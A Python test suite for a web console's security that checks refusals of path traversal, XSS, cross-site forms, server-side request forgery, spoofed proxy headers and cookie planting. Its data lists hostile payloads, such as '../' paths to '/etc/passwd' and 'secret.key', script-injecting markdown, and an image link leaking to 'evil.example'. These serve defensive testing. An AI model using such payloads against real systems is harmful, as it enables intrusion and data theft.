"""What somebody tries who is not welcome, or is and wants more: each was tried by hand first, and is refused."""

from __future__ import annotations

import asyncio
from dataclasses import replace

import pytest
from sqlalchemy import select

from agent.domain.signing import SignIn
from agent.doors import idempotency
from agent.doors.api.app import create_app
from agent.doors.limits import Limits
from agent.store.tables import KeptAnswer
from tests.agent.doors.signing.conftest import HOST, Place, Visitor, bearer
from tests.agent.doors.signing.test_access import status
from tests.agent.doors.signing.test_api_contract import admin_of, with_csrf

KEY = {"idempotency-key": "k1"}


@pytest.fixture
def database_url(tmp_path) -> str:
    return f"sqlite:///{tmp_path / 'watchkeeper.db'}"


def test_what_is_kept_of_answers_opens_nothing(place: Place) -> None:
    """A link that sets a password and a token's secret stand in answers; whoever reads the database finds neither."""
    root = admin_of(place)
    added = root.post("/api/v1/people", json={"name": "ann"}, headers=KEY)
    made = root.post("/api/v1/tokens", json={"name": "CI"}, headers=KEY)
    again = root.post("/api/v1/tokens", json={"name": "CI"}, headers=KEY)
    assert again.json() == made.json()
    assert again.headers["idempotent-replay"] == "true"
    with place.services.store.read() as session:
        kept = [row.body + row.key + row.request for row in session.scalars(select(KeptAnswer))]
    assert len(kept) == 2
    for text in kept:
        assert made.json()["token"] not in text
        assert added.json()["link"].rpartition("=")[2] not in text
    place.app.state.services = replace(place.services, secret=b"another" * 8)
    with pytest.raises(Exception, match="can no longer be read"):
        name = '["/api/v1/tokens", "person", "root", "k1"]'
        with place.services.store.read() as session:
            row = session.get(KeptAnswer, idempotency._hashed(name))
        idempotency._begin(place.app.state.services, name, row.request)


def test_an_answer_is_not_repeated_to_who_may_no_longer_ask(place: Place) -> None:
    root = place.person("root", "admin")
    wide, narrow = place.token("root"), place.token("root", "read")
    first = place.visitor().post("/api/v1/people", json={"name": "ann"}, headers=bearer(wide) | KEY)
    assert first.status_code == 201
    other = place.visitor().post("/api/v1/people", json={"name": "ann"}, headers=bearer(narrow) | KEY)
    assert (other.status_code, "link" in other.json()) == (403, False)
    for token, name in ((wide, "first"), (place.token("root", "read", "propose", models=("other-*",)), "second")):
        sent = {"json": {"reason": "now"}, "headers": bearer(token) | {"idempotency-key": "k2"}}
        answer = place.visitor().post("/api/v1/freeze", **sent)
        assert (answer.status_code, "idempotent-replay" in answer.headers) == (200, False), f"{name}: a key of its own"
    browser = place.signed_in(root)
    sent = {"json": {"reason": "now"}, "headers": KEY}
    assert with_csrf(browser).post("/api/v1/freeze", **sent).status_code == 200
    del browser.headers["x-csrf-token"]
    assert browser.post("/api/v1/freeze", **sent).status_code == 403, "not even a repetition without the form's token"


def test_an_admin_of_some_models_and_a_token_that_reads_see_no_people(place: Place) -> None:
    place.person("root", "admin")
    place.person("secret-agent", "viewer")
    other = place.signed_in(place.person("other", "admin", models=("other-*",)))
    reader = place.visitor(headers=bearer(place.token("root", "read")))
    for browser in (other, reader):
        assert "secret-agent" not in browser.get("/settings").text
    assert "secret-agent" in place.signed_in(place.person("boss", "admin")).get("/settings").text


KEYS = {"p256dh": "B" + "A" * 86, "auth": "A" * 22}


ENDPOINTS = (
    "http://127.0.0.1:8001/invocations", "https://localhost/x", "https://[::1]/", "https://[", "ftp://x", "//x",
)  # fmt: skip


def test_no_device_makes_the_server_ask_itself(place: Place) -> None:
    """Where others can reach the console, a viewer cannot make it send requests to what else listens there."""
    place.person("root", "admin")
    place.services = replace(place.services, sign_in=SignIn(required=True))
    place.app = create_app(place.services)
    viewer = with_csrf(place.signed_in(place.person("ann")))
    for endpoint in ENDPOINTS:
        sent = viewer.post("/push/subscribe", json={"endpoint": endpoint, "keys": KEYS})
        assert (sent.status_code, "endpoint:" in sent.text) == (422, True), (endpoint, sent.text)


def test_a_flood_without_a_name_holds_up_nobody_else(place: Place) -> None:
    place.person("root", "admin")
    place.app.state.limits = Limits(0.001, 5)
    flood = place.visitor(client=("10.0.0.1", 1))
    assert [flood.get("/api/v1/me").status_code for _ in range(7)] == [401] * 5 + [429] * 2
    assert place.visitor(client=("10.0.0.2", 1)).get("/api/v1/me").status_code == 401


FORMS = ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x")


def test_another_sites_form_writes_nothing(place: Place) -> None:
    """Forms need no permission of the browser to be sent elsewhere: in whatever type they come, with the cookie."""
    root = place.signed_in(place.person("root", "admin"))
    body = '{"reason": "from another site"}'
    for kind in FORMS:
        for origin in ({"origin": "https://evil.example"}, {"origin": "null"}, {"sec-fetch-site": "cross-site"}, {}):
            sent = root.post("/api/v1/freeze", content=body, headers={"content-type": kind, **origin})
            assert sent.status_code == 403, (kind, origin)
    assert root.get("/api/v1/freeze").json()["frozen"] is False


def test_nothing_is_given_that_was_not_asked_for(place: Place) -> None:
    """Fields that a body has no name for change nothing: not who it is by, not a role, not a state."""
    root = admin_of(place)
    made = root.post(
        "/api/v1/people", json={"name": "ann", "password": "x" * 20, "active": False, "id": "u-0", "created_by": "god"}
    ).json()
    assert (made["password"], made["active"], made["created_by"], made["role"]) == (False, True, "root", "viewer")
    assert made["id"] != "u-0"
    ann = with_csrf(place.signed_in(place.person("ben", "operator")))
    token = ann.post("/api/v1/tokens", json={"name": "t", "person": "root", "audience": "x", "role": "admin"}).json()
    assert (token["person"], token["audience"]) == ("ben", f"{HOST}/api/v1")
    assert ann.patch("/api/v1/people/ben", json={"role": "admin"}).status_code == 403
    assert (
        ann.patch("/api/v1/people/ben", json={"role": "admin"}, headers=bearer(place.token("ben"))).status_code == 403
    )


PATHS = (
    "/static/../page.py", "/static/..%2f..%2fsignin.py", "/static/%2e%2e/%2e%2e/signin.py", "/static//etc/passwd",
    "/static/vendor/..\\..\\page.py", "/static/\x00", "/models/..%2f..%2fsecret.key", "/reports/..%2f..%2fsecret.key",
    "/models/churn/deep-dives/..%2f..%2fsecret.key", "/models/churn/deep-dive/%2e%2e%2fsecret.key",
    "/settings/models/..%2f..%2fwatchkeeper.yaml", "/api/v1/reports/..%2f..%2fsecret.key",
)  # fmt: skip


def test_no_path_leads_to_a_file_of_the_workspace(place: Place) -> None:
    (place.services.home / "secret.key").write_text("the-signing-key")
    root = place.signed_in(place.person("root", "admin"))
    for path in PATHS:
        answer = asyncio.run(status(place.app, "GET", path, {"cookie": f"watchkeeper={root.cookies['watchkeeper']}"}))
        assert answer[0] in (400, 404, 422), path


HOSTILE = "<img src=x onerror=alert(1)>"
MARKDOWN = (
    "[click](javascript:alert(1))", "![x](https://evil.example/?leak)", "<script>alert(1)</script>", HOSTILE,
    "[a](//evil.example)", "`<svg onload=alert(1)>`", "<a href='https://evil.example'>x</a>",
)  # fmt: skip


def test_what_is_said_in_a_chat_is_text(place: Place) -> None:
    from agent.doors.console.chat import _paragraphs

    shown = str(_paragraphs("\n\n".join(MARKDOWN), {}))
    for tag in ("<script", "<img", "<svg", "<a "):
        assert tag not in shown, shown


def test_a_page_says_what_may_run_on_it(place: Place) -> None:
    """Every answer, also an error's, carries the policy; none of it allows a script that is not a file of ours."""
    browser: Visitor = place.visitor()
    place.person("root", "admin")
    for path in ("/sign-in", "/nothing", "/healthz", "/static/style.css", "/api/v1/me", "/set-up?code=x"):
        answer = browser.get(path, follow_redirects=False)
        policy = answer.headers["content-security-policy"]
        assert "script-src 'self';" in policy, path
        assert "unsafe" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "frame-ancestors 'none'" in policy


def test_two_hosts_and_a_proxys_headers_are_refused_where_nobody_signs_in(place: Place) -> None:
    browser = place.visitor()
    assert browser.get("/api/v1/models").status_code == 200
    for name in ("forwarded", "x-forwarded-for", "x-real-ip", "via", "x-forwarded-host"):
        assert browser.get("/api/v1/models", headers={name: "10.0.0.1"}).status_code == 401
    twice = [("host", "127.0.0.1:8000"), ("host", "evil.example")]
    assert browser.get("/api/v1/models", headers=twice).status_code == 403
    assert browser.get(f"{HOST}/api/v1/models", headers={"authorization": "Bearer x"}).status_code == 401


def test_with_tls_no_other_host_of_the_domain_sets_a_cookie_of_ours(place: Place) -> None:
    """A sibling (evil.example.org for watch.example.org) can set cookies for the domain, but none named `__Host-`."""
    public = "https://watch.example.org"
    place.person("ann", password=True)
    place.services = replace(place.services, public_url=public)
    place.app = create_app(place.services)
    browser = place.visitor(base_url=public)
    shown = browser.get("/sign-in")
    answer = browser.sign_in("ann")
    assert answer.status_code == 303, answer.text
    given = [*shown.headers.get_list("set-cookie"), *answer.headers.get_list("set-cookie")]
    assert len(given) >= 2
    for cookie in given:
        assert cookie.startswith("__Host-watchkeeper")
        assert "Secure" in cookie
        assert "HttpOnly" in cookie
        assert "Path=/;" in f"{cookie};"
        assert "domain" not in cookie.casefold()
    assert browser.who == "ann"
    assert shown.headers["strict-transport-security"].startswith("max-age=")
    planted = place.visitor(base_url=public)
    planted.cookies.set("watchkeeper", browser.cookies["__Host-watchkeeper"])
    assert planted.get("/api/v1/me").status_code == 401
